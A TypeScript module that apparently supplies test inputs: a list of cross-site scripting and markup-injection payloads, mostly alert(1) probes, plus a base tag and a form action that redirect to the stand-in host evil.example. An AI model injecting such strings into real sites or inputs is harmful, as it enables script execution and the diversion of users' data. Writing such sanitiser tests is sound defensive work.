/** Texts that would run, load or lead away where they were taken for markup. */
export const payloads = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</option></select><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  'x" onfocus="alert(1)" autofocus="',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><button>',
  '<tr data-rows="true"></tr>',
];
